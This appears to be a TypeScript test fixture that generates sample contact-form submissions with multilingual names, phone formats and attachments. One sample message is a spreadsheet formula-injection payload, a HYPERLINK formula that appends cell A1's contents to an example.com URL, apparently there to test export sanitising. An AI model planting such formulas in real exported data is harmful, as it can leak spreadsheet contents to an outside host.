const NAMES = ['Bakery', 'Bäckerei', 'Panadería', '花屋', 'Bageri på Ærø', 'Книгарня'];
const TOPICS = ['Billing', 'Support', 'Feedback', 'Other'];
const MESSAGES = [
	'Hello, is the table still available on Friday?',
	'Grüße aus Köln! Bitte um Rückruf.',
	'Two lines,\nand a "quoted" word — with an emoji 🙂',
	'=1+1 looks like a formula, but is what I typed.',
	'=HYPERLINK("https://example.com/?"&A1;"Click here")',
	'@everyone -50 % until 1/2!',
];
const PHONES = ['', '+49 221 5550123', '0221 555 01 23', '+4922155501', '007'];
const TAGS = [[], ['website'], [], ['website', 'vip']];

/** What a visitor sent, and what the service stores with it. */
type Sample = {
	data: Record<string, unknown>;
	files: readonly unknown[];
	tags: readonly unknown[];
};

export function sample(index: number): Sample {
	return { data: sampleData(index), files: sampleFiles(index), tags: pick(TAGS, index) ?? [] };
}

/**
 * Field values as people enter them: other alphabets, line breaks, lists, numbers, an empty field,
 * phone numbers, leading zeros, text that a spreadsheet treats as a formula.
 */
function sampleData(index: number): Record<string, unknown> {
	return {
		name: pick(NAMES, index),
		email: `person${index}@example.com`,
		message: pick(MESSAGES, index),
		topics: TOPICS.slice(0, index % (TOPICS.length + 1)),
		guests: index % 7,
		newsletter: index % 2 === 0,
		phone: pick(PHONES, index),
		reference: String(index).padStart(6, '0'),
		...(index % 10 === 5 ? { address: { street: 'Hauptstr. 1', city: 'Köln' } } : {}),
	};
}

/** Most have none; some have one with a URL, two, or one with only a name. */
function sampleFiles(index: number): unknown[] {
	const file = (name: string) => ({
		name,
		url: `https://files.example.com/${index}/${name}`,
		size: 48_213,
	});
	if (index % 8 === 3) return [file('cv.pdf')];
	if (index % 16 === 5) return [file('front.jpg'), file('back.jpg')];
	return index % 32 === 9 ? [{ name: 'scan.pdf' }] : [];
}

function pick<T>(values: readonly T[], index: number): T | undefined {
	return values[index % values.length];
}
